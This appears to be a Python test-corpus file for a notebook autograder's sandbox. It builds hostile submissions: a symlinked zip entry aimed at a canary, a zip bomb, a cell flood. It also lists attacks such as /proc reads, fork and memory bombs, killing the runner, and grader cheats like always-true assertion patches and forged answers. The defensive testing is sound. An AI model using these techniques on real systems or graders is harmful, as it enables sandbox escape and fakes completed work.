def _zip_link(ctx: Ctx) -> ZipCase:
    info = zipfile.ZipInfo(_lms("ziplink", _T1, "ann.ipynb"))
    info.external_attr = (stat.S_IFLNK | 0o777) << 16
    return ZipCase([(info, ctx.targets["files"][0].encode()), _receipt("ziplink", _T1, "ann.ipynb")])


def _zip_bomb(ctx: Ctx) -> ZipCase:
    # 80 MiB of spaces (valid JSON whitespace) packs into ~80 KiB; the per-entry cap is 64 MiB
    return ZipCase([(_lms("zipbomb", _T1, "ann.ipynb"), b" " * (80 << 20)), _receipt("zipbomb", _T1, "ann.ipynb")])


def _zip_nested(ctx: Ctx) -> ZipCase:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr(_lms("zipnested", _T1, "ann.ipynb"), _nb_bytes(ctx.a))
    return ZipCase([(_lms("zipnested", _T1, "ann.zip"), inner.getvalue()), _receipt("zipnested", _T1, "ann.zip")])


def _zip_attempts(ctx: Ctx) -> ZipCase:
    first = _details(ctx.b, "zipattempts", CID_A)
    second = _details(ctx.a, "zipattempts", CID_A)
    return ZipCase([(_lms("zipattempts", _T1, "ann.ipynb"), _nb_bytes(first)),
                     _receipt("zipattempts", _T1, "ann.ipynb"),
                     (_lms("zipattempts", _T2, "ann_final.ipynb"), _nb_bytes(second)),
                     _receipt("zipattempts", _T2, "ann_final.ipynb")])


def _too_many_cells(ctx: Ctx) -> bytes:
    """290,000 markdown cells (17 MB, under the size cap): 17.6 s of serial intake before the cap."""
    data = json.loads(_nb_bytes(_details(ctx.a, ctx.case, CID_A)))
    data["cells"] = [{"cell_type": "markdown", "metadata": {}, "source": "t"}] * 290_000 + data["cells"]
    return json.dumps(data).encode()


_SAME = Expect()
_AT_MOST = Expect(points="at_most")

_INVALID = Expect(status=(Status.INVALID_NOTEBOOK,), points="zero")

# A sandboxed run of the tiny profile costs the trusted side ~0.1-0.5 s of CPU; a flood read in full cost 17.7 s.
_BOUNDED_TRUSTED_CPU_S = 3.0
# Judging a notebook's answers takes ~1-3 s (more on a loaded machine); the giant shapes cost 41 s of CPU.
_BOUNDED_JUDGE_S = 15.0

TRUST_CASES: tuple[Case, ...] = (
    Case("keyring_store", "isolation", "stores its lr_results with add_key in its uid's user, user-session "
         "and session keyrings (they outlive the run)", "a",
         _hostile("a", "end", trust.KEYRING_STORE), ordered=1),
    Case("state_store", "isolation", "leaves SysV shm/msg/sem, a POSIX queue, files in every writable folder, "
         "an abstract socket held by a daemon", "a", _hostile("a", "end", trust.STATE_STORE), ordered=1),
    Case("keyring_take", "isolation", "the next run in the same slot (same uid) reads the keys back", "a",
         _hostile("a", "end", trust.KEYRING_TAKE), ordered=2),
    Case("state_take", "isolation", "the next run in the same slot looks for the IPC objects, files and socket",
         "a", _hostile("a", "end", trust.STATE_TAKE), ordered=2),
    Case("cid_cell_too_deep", "intake", "a code cell mentioning CID holds an expression 20,000 operators deep "
         "(the parser's MemoryError stopped the whole batch)", "a",
         _plain("a", "early", "# CID: not changed here\n_deep = " + "-" * 20000 + "1\n"), _AT_MOST),
    Case("too_many_cells", "intake", "290,000 markdown cells in 17 MB", None, _too_many_cells,
         replace(_INVALID, message=r"290,\d{3} cells, more than the limit of 2,000")),
    Case("answer_out_of_range", "liar", "lr_results = {10 ** 400: 0.0, 0.1: 10 ** 400}, best_lr = 10 ** 400",
         "a", _plain("a", "end", trust.OUT_OF_RANGE), replace(_AT_MOST, judge_s=_BOUNDED_JUDGE_S)),
    Case("answer_oversized", "liar", "every probe answers an array whose shape lists 90,000 18-digit integers",
         "a", _plain("a", "early", trust.OVERSIZED), replace(_AT_MOST, judge_s=_BOUNDED_JUDGE_S)),
    Case("deep_folder_chain", "write", "leaves a folder chain 3,000 deep, the last one unreadable, in its job "
         "folder", "a", _plain("a", "end", trust.DEEP_FOLDERS)),
    Case("stdout_flood", "resource", "a thread writes to the runner's own stdout/stderr for 60 s", "a",
         _plain("a", "early", trust.STDOUT_FLOOD),
         replace(_AT_MOST, supervisor_cpu_s=_BOUNDED_TRUSTED_CPU_S)),
)

CASES: tuple[Case, ...] = (
    # -- reading what it must not see
    Case("read_direct", "read", "checks, reference, source, cache, gradebook, other submissions by absolute and "
         "relative paths; environment variables; imports of the engine and reference; the course's files by path",
         "a", _hostile("a", "end", _READ_PATHS + _READ_ENV_IMPORTS)),
    Case("read_indirect", "read", "the same through /proc (self/cwd, self/root, other pids' roots), neighbouring "
         "jobs, the grader's processes; walking up and over the whole visible tree for canaries", "a",
         _hostile("a", "end", _READ_PROC + _READ_WALK)),
    # -- writing where it must not
    Case("write_outside", "write", "appends to, truncates, deletes canaries, the store, other submissions; "
         "drops files into the output folder", "a", _hostile("a", "end", _WRITE_OUTSIDE)),
    Case("poison_job_files", "write", "overwrites its job's data files; plants links to host files, a fifo, "
         "an unreadable folder for the cleanup", "a", _hostile("a", "end", _POISON_JOB, report=False),
         _AT_MOST),
    # -- patching the checks' tools inside the kernel (B: the seeded perceptron/sigmoid bugs are still there)
    Case("patch_numeric_asserts", "patch", "np.allclose, numpy.testing, math.isclose, torch.allclose/testing "
         "always agree", "b", _plain("b", "early", _PATCH_NUMERIC)),
    Case("patch_builtins", "patch", "sum/min/max/sorted/abs/round/print lie", "b",
         _plain("b", "early", _PATCH_BUILTINS), _AT_MOST),
    Case("patch_pytest_files", "patch", "pytest.approx/fail patched; conftest.py, sitecustomize, fake gradekit "
         "and reference packages written to its folder", "b", _plain("b", "early", _PATCH_PYTEST_FILES)),
    Case("patch_probe_machinery", "patch", "exec, json.dumps and publish_display_data forge every probe answer",
         "b", _plain("b", "early", _forged(_PATCH_PROBE_MACHINERY)), _AT_MOST),
    Case("ipython_transformers", "patch", "input transformers strip asserts and rewrite the probe cells",
         "b", _plain("b", "early", _forged(_IPYTHON_TRANSFORMERS)), _AT_MOST),
    Case("ipython_event_hooks", "patch", "a post_run_cell hook publishes a forged answer after every cell",
         "b", _plain("b", "early", _forged(_IPYTHON_EVENTS)), _AT_MOST),
    Case("atexit_signals", "patch", "atexit hook that writes and sleeps forever, SIGTERM ignored, a "
         "non-daemon thread", "b", _hostile("b", "early", _ATEXIT_SIGNALS, report=False)),
    # -- lying return values (on B: the seeded bugs are unfixed)
    Case("liar_always_equal", "liar", "every function returns an object equal to everything", "b",
         _plain("b", "end", _LIAR_ALWAYS_EQUAL)),
    Case("liar_float", "liar", "every function returns a float subclass whose ==, float() and repr lie", "b",
         _plain("b", "end", _LIAR_FLOAT)),
    Case("liar_ndarray", "liar", "every function returns an ndarray subclass whose ==, __array__, astype lie",
         "b", _plain("b", "end", _LIAR_NDARRAY)),
    Case("liar_tensor", "liar", "every function returns a Tensor subclass whose ==, detach, numpy lie", "b",
         _plain("b", "end", _LIAR_TENSOR)),
    # -- points need the work (issue 12): on B; nothing may score above B
    Case("forged_printed_answers", "liar", "publish_display_data wrapped: reads each probe's inputs from the "
         "caller's frame, answers the release's printed constants, a made-up sweep", "b",
         _plain("b", "end", _FORGE_PRINTED_ANSWERS), _AT_MOST),
    Case("partial_sweep_diverged", "liar", "trains the first two rates only, claims nan for the others, best_lr "
         "the better of the two", "b", _plain("b", "end", _PARTIAL_SWEEP_DIVERGED), _AT_MOST),
    Case("partial_sweep_made_up", "liar", "trains the first rate and the best only, made-up losses above it "
         "elsewhere", "b", _plain("b", "end", _PARTIAL_SWEEP_MADE_UP), _AT_MOST),
    # -- resources and crashes
    Case("infinite_loop", "resource", "while True: pass", "a", _plain("a", "early", _INFINITE_LOOP),
         Expect(message="timed out after")),
    Case("sigint_ignored_loop", "resource", "a busy loop that ignores SIGINT", "a",
         _plain("a", "early", _SIGINT_IGNORED), Expect(message="kernel restarted")),
    Case("sleep_forever", "resource", "time.sleep(10**6)", "a", _plain("a", "early", _SLEEP_FOREVER),
         Expect(message="timed out after")),
    Case("fork_bomb", "resource", "forks until the process limit, forever", "a", _plain("a", "early", _FORK_BOMB),
         Expect(status=(Status.GRADED, Status.KERNEL_DIED), points="at_most", message="timed out|kernel")),
    Case("cpu_hog", "resource", "30 setsid'd processes spin for 20 s in the background: the runs next to it "
         "must not slow down", "a", _plain("a", "end", _CPU_HOG),
         Expect(status=(Status.GRADED, Status.TIMEOUT, Status.KERNEL_DIED), points="at_most")),
    Case("memory_bomb", "resource", "1 TiB at once, then 256 MiB blocks until the address-space limit", "a",
         _plain("a", "end", _MEMORY_BOMB), Expect(message="MemoryError")),
    Case("os_exit", "resource", "os._exit(0)", "a", _plain("a", "early", _OS_EXIT),
         Expect(message="killed the kernel")),
    Case("sys_exit", "resource", "sys.exit()", "a", _plain("a", "early", _SYS_EXIT), Expect(message="SystemExit")),
    Case("segfault", "resource", "ctypes.string_at(0)", "a", _plain("a", "early", _SEGFAULT),
         Expect(message="killed the kernel")),
    Case("delete_workdir", "resource", "deletes its own working folder (data included)", "a",
         _plain("a", "early", _DELETE_WORKDIR), Expect(points="at_most", message="raised errors")),
    Case("output_flood", "resource", "prints 100 MB, then displays a 50 MB image", "a",
         _plain("a", "early", _PRINT_100MB + _IMAGE_50MB)),
    Case("daemon_process", "resource", "a setsid'd grandchild (sleep) meant to outlive the run", "a",
         _hostile("a", "early", _DAEMON, report=False)),
    Case("kill_runner", "resource", "SIGKILLs the grading runner (same uid) and bubblewrap", "a",
         _plain("a", "end", _KILL_RUNNER),
         Expect(status=(Status.KERNEL_DIED,), points="at_most", message="runner stopped unexpectedly")),
    Case("forge_events", "resource", "writes forged runner events to every pipe it holds and the runner's fds",
         "a", _hostile("a", "end", _FORGE_EVENTS)),
    # -- network
    Case("network", "network", "DNS, TCP out, the grader's loopback port and abstract socket on the host", "a",
         _hostile("a", "end", _NETWORK)),
    # -- files that are not (quite) notebooks
    Case("invalid_json", "intake", "truncated JSON", None, _invalid_json,
         replace(_INVALID, message="not valid JSON: .* at line")),
    Case("json_not_notebook", "intake", "valid JSON, not a notebook", None,
         lambda ctx: b'{"cells": "none", "hello": [1, 2, 3]}', replace(_INVALID, message="not a Jupyter notebook")),
    Case("nbformat_v3", "intake", "the full-marks notebook saved as nbformat 3", "a", _as_v3,
         Expect(flags=("upgraded_from_v3",))),
    Case("duplicate_cell_ids", "intake", "every cell has the same id", "a", _duplicate_ids,
         Expect(flags=("cell_ids_duplicated",))),
    Case("deleted_cells", "intake", "markdown and the first code cell deleted", "a", _deleted_cells, _AT_MOST),
    Case("reordered_cells", "intake", "cells in reverse order", "a", _reordered_cells, _AT_MOST),
    Case("no_metadata", "intake", "no notebook or cell metadata at all", "a", _no_metadata,
         Expect(flags=("cells_repaired",))),
    Case("non_python_kernel", "intake", "an R kernel spec", "a", _non_python_kernel,
         Expect(flags=("kernel_not_python",))),
    Case("empty_file", "intake", "0 bytes", None, lambda ctx: b"", replace(_INVALID, message="empty")),
    Case("huge_sparse", "intake", "200 MB (sparse, made with truncate)", None, lambda ctx: Sparse(200 << 20),
         replace(_INVALID, message="larger than the limit")),
    Case("non_utf8", "intake", "the notebook in Latin-1", None, _non_utf8, replace(_INVALID, message="not UTF-8")),
    # -- a learning platform's bulk download
    Case("zipslip", "zip", "entry path climbs out of the archive with ../", None, _zip_slip,
         replace(_INVALID, message="path leaves the archive")),
    Case("zipabsolute", "zip", "entry with an absolute path into the confidential folder", None, _zip_absolute,
         replace(_INVALID, message="absolute path")),
    Case("ziplink", "zip", "entry is a symbolic link to a canary", None, _zip_link,
         replace(_INVALID, message="symbolic link")),
    Case("zipbomb", "zip", "80 MiB entry packed into ~80 KiB", None, _zip_bomb,
         replace(_INVALID, message="zip bomb")),
    Case("zipnested", "zip", "the notebook inside a zip inside the download", None, _zip_nested,
         replace(_INVALID, message="archive inside the archive")),
    Case("zipattempts", "zip", "two attempts: an unfinished one, then the full-marks one", "a", _zip_attempts,
         Expect(flags=("several_attempts",))),
    # -- trust under attack (issue 12): nothing survives a run, odd answers, bounded trusted work
    *TRUST_CASES,
)


# ==================================================================================================
# Controls: planted failures the corpus must detect (so that "0 escapes, 0 marks gained" means something)

_CONTROL_READ_OWN = r'''
_planted = b"<!-- " + ("gk-" + "canary-").encode()
for _fn in sorted(_gk_os.listdir(".")):
    if _fn.endswith(".ipynb"):
        with open(_fn, "rb") as _f:
            _whole = _f.read()
        if _planted in _whole:
            _at = _whole.index(_planted) + 5
            _gk_note("control: the secret planted in my own notebook %r" % _whole[_at:_at + 40])
'''


def _control_leak(ctx: Ctx):
    """A (not hostile) notebook that carries the canary secret itself -- planted by this builder, which
    runs outside the sandbox -- and reads it back inside: the corpus must report an escape."""
    from . import fabricate

    secret = Path(ctx.targets["files"][0]).read_text().split()[0]
    nb = _insert(ctx, "a", ctx.cell(_CONTROL_READ_OWN), "end")
    return fabricate.insert_cell(nb, f"<!-- {secret} -->", cell_type="markdown", cell_id="planted")


def _control_gain(ctx: Ctx):
    """B with its seeded perceptron bug fixed: honest work its baseline lacks -- marks the corpus must count."""
    from . import fabricate

    nb = _details(ctx.b, ctx.case, CID_B)
    return fabricate.fix_bug(nb, ctx.source, ctx.bug_parts[0])


CONTROLS: tuple[Case, ...] = (
    Case("control_leak", "control", "reads the secret planted in its own notebook: must count as an escape",
         "a", _control_leak, Expect(points="at_most")),
    Case("control_gain", "control", "B with the perceptron fixed: must count as marks gained over B", "b",
         _control_gain, Expect(points="at_most")),
)
